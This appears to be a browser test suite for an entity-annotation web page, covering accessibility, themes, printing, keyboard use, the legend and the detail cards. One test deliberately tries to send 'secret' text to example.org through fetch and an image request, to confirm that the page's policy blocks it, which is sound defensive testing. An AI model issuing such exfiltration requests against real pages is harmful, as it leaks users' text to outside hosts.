// The page, as a reader meets it: paste, marks, legend, card, themes.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { axe, open, shot } from './harness.mjs';
import { ARTICLE, done, mark, marks, openPage, paste, sentence } from './page-tools.mjs';

const THEMES = [
  ['light', {}],
  ['dark', { media: { 'prefers-color-scheme': 'dark' } }],
  ['narrow', { viewport: { width: 320, height: 640 } }],
];

for (const [name, options] of THEMES) {
  test(`${name}: every state keeps the accessibility rules and fits the window`, async (t) => {
    const { page, errors } = await openPage(t, options);
    const check = async (state) => {
      await shot(page, `${name}-${state}`, { fullPage: state !== 'card' });
      assert.deepEqual(await axe(page), [], `${name}, ${state}`);
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.equal(wide, 0, `${name}, ${state}: nothing sticks out`);
    };
    await check('empty');
    await page.click('#annotate');
    assert.equal(await sentence(page), 'There is no text to mark yet.');
    await check('error');
    await page.click('#sample');
    await done(page);
    await check('annotated');
    await page.click('mark[data-kind=money]');
    await page.waitForSelector('.card:not([hidden])');
    await check('card');
    assert.deepEqual(errors, []);
  });
}

test('forced colours keep the accessibility rules', async (t) => {
  const { page } = await openPage(t);
  const session = await page.createCDPSession();
  await session.send('Emulation.setEmulatedMedia', { features: [{ name: 'forced-colors', value: 'active' }] });
  await mark(page);
  await shot(page, 'forced');
  assert.deepEqual(await axe(page), []);
});

test('on paper the article comes with its legend and without controls', async (t) => {
  const { page } = await openPage(t);
  await mark(page);
  await page.emulateMediaType('print');
  await shot(page, 'print');
  const shown = (selector) => page.$eval(selector, (el) => getComputedStyle(el).display !== 'none');
  assert.equal(await shown('.legend'), true);
  for (const control of ['.tools', '.bar', '.presets']) assert.equal(await shown(control), false, control);
});

test('with the real engine: a pasted article is marked, and nothing is fetched or sent after the load', async (t) => {
  const { page, requests, outside, errors } = await open(t);
  await page.waitForFunction(() => document.documentElement.dataset.engine === 'ready');
  const before = requests.length;
  await paste(page, { 'text/plain': ARTICLE });
  await done(page);
  assert.ok((await marks(page)).includes('help@varnes.example/email'));
  await page.click('mark');
  await page.keyboard.press('Escape');
  await page.click('.legend .solo');
  assert.deepEqual(requests.slice(before), []);
  assert.deepEqual(outside(), []);
  assert.deepEqual(errors, []);
});

test('the policy of the page forbids sending text anywhere else', async (t) => {
  const { page, outside } = await openPage(t);
  const failed = await page.evaluate(async () => {
    const tries = await Promise.allSettled([
      fetch('https://example.org/?text=secret'),
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = 'https://example.org/secret.png';
      }),
    ]);
    return tries.map((result) => result.status);
  });
  assert.deepEqual(failed, ['rejected', 'rejected']);
  assert.deepEqual(outside().filter((line) => line.includes('example.org')), []);
});

test('marks are real mark elements that leave the text as it is', async (t) => {
  const { page } = await openPage(t);
  await mark(page);
  const found = await marks(page);
  assert.ok(found.includes('Anna Berg/person'));
  assert.ok(found.includes('At least 12/cardinal'));
  const lines = await page.$$eval('.block', (list) => list.map((el) => el.textContent));
  assert.deepEqual(lines, ARTICLE.split('\n').filter(Boolean));
});

test('a kind is told by a word and by a line, not by colour alone', async (t) => {
  const { page } = await openPage(t);
  await mark(page);
  const looks = await page.$$eval('mark', (list) => Object.fromEntries(list.map((el) => [el.dataset.group, {
    line: getComputedStyle(el).textDecorationStyle,
    word: getComputedStyle(el, '::after').content.includes(el.dataset.label),
  }])));
  assert.deepEqual(looks, {
    name: { line: 'solid', word: true },
    number: { line: 'dashed', word: true },
    time: { line: 'double', word: true },
    web: { line: 'dotted', word: true },
  });
  await page.click('input[name=labels][value=off]');
  assert.equal(await page.$eval('mark', (el) => getComputedStyle(el, '::after').display), 'none');
});

test('what is copied is the original text, with its line ends and without labels', async (t) => {
  const { page } = await openPage(t);
  const text = 'First Line here\r\n\r\nAnna  Berg paid €45 million.\r\n';
  await mark(page, text);
  const copied = await page.evaluate(() => {
    document.getSelection().selectAllChildren(document.querySelector('.article'));
    const data = new DataTransfer();
    document.querySelector('.article').dispatchEvent(new ClipboardEvent('copy', { clipboardData: data, bubbles: true, cancelable: true }));
    return data.getData('text/plain');
  });
  assert.equal(copied, 'First Line here\r\n\r\nAnna  Berg paid €45 million.');
});

test('the legend counts, filters, shows one kind alone, and has presets', async (t) => {
  const { page } = await openPage(t);
  await mark(page);
  const count = (kind) => page.$eval(`.legend li[data-kind=${kind}] .count`, (el) => Number(el.textContent));
  const all = await marks(page);
  const visible = async (kind) => (await marks(page)).filter((m) => m.endsWith(`/${kind}`)).length;
  assert.equal(await count('person'), 3);
  assert.equal(await visible('person'), 3);
  await page.click('#kind-person');
  assert.equal(await visible('person'), 0);
  assert.ok((await visible('cardinal')) > 0);
  await page.click('.legend li[data-kind=money] .solo');
  assert.deepEqual(await marks(page), ['€45 million/money']);
  assert.match(await page.$eval('.legend-sum', (el) => el.textContent), /^1 of \d+ marks shown$/);
  await page.click('.presets button:nth-child(2)');
  assert.ok((await marks(page)).every((m) => /person|org|gpe/.test(m)));
  await page.click('.presets button:nth-child(1)');
  assert.deepEqual(await marks(page), all);
});

test('a click on a mark shows what it is, what it is worth and why; Escape goes back to it', async (t) => {
  const { page } = await openPage(t);
  await mark(page);
  const card = async () => page.$eval('.card', (el) => (el.hidden ? '' : el.innerText));
  await page.click('mark[data-kind=money]');
  assert.match(await card(), /45,000,000 EUR[^]*45 million[^]*Euro[^]*Why[^]*digits/);
  await page.keyboard.press('Escape');
  assert.equal(await card(), '');
  assert.equal(await page.evaluate(() => document.activeElement.textContent), '€45 million');
  await page.keyboard.press('Enter');
  assert.match(await card(), /45,000,000/);
  await page.keyboard.press('Escape');
  await page.click('mark[data-kind=person]');
  assert.match(await card(), /Anna Berg, 2 mentions[^]*87 % sure/);
});

test('dates are worked out once the day of publication is known', async (t) => {
  const { page } = await openPage(t);
  await mark(page);
  await page.click('mark[data-kind=date]');
  assert.match(await page.$eval('.card', (el) => el.innerText), /needs a publication date/);
  await page.keyboard.press('Escape');
  await page.$eval('#date', (el) => {
    el.value = '2026-03-13';
    el.dispatchEvent(new Event('change'));
  });
  await done(page);
  await page.click('mark[data-kind=date]');
  assert.match(await page.$eval('.card', (el) => el.innerText), /Thursday 12 March 2026/);
});

test('the whole road by keyboard alone: sample, marks, card, legend', async (t) => {
  const { page } = await openPage(t);
  const focused = () => page.evaluate(() => document.activeElement.id || document.activeElement.textContent);
  const tabTo = async (wanted) => {
    for (let i = 0; i < 40; i += 1) {
      if (await page.evaluate((selector) => document.activeElement.matches(selector), wanted)) return;
      await page.keyboard.press('Tab');
    }
    assert.fail(`Tab never reached ${wanted}, it stands on ${await focused()}`);
  };
  await tabTo('#sample');
  await page.keyboard.press('Enter');
  await done(page);
  await page.evaluate(() => document.activeElement.blur());
  await tabTo('mark');
  const first = await focused();
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('ArrowRight');
  assert.notEqual(await focused(), first);
  await page.keyboard.press('Home');
  assert.equal(await focused(), first);
  await page.keyboard.press('Enter');
  assert.equal(await focused(), 'card-title');
  await page.keyboard.press('Escape');
  assert.equal(await focused(), first);
  await tabTo('#kind-person');
  await page.keyboard.press('Space');
  assert.equal((await marks(page)).some((m) => m.endsWith('/person')), false);
  assert.equal(await focused(), 'kind-person');
});

test('the colours can be switched and are remembered', async (t) => {
  const { page } = await openPage(t, { media: { 'prefers-color-scheme': 'light' } });
  const paper = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  const light = await paper();
  await page.select('#theme', 'dark');
  const dark = await paper();
  assert.notEqual(dark, light);
  await page.reload();
  assert.equal(await paper(), dark);
});
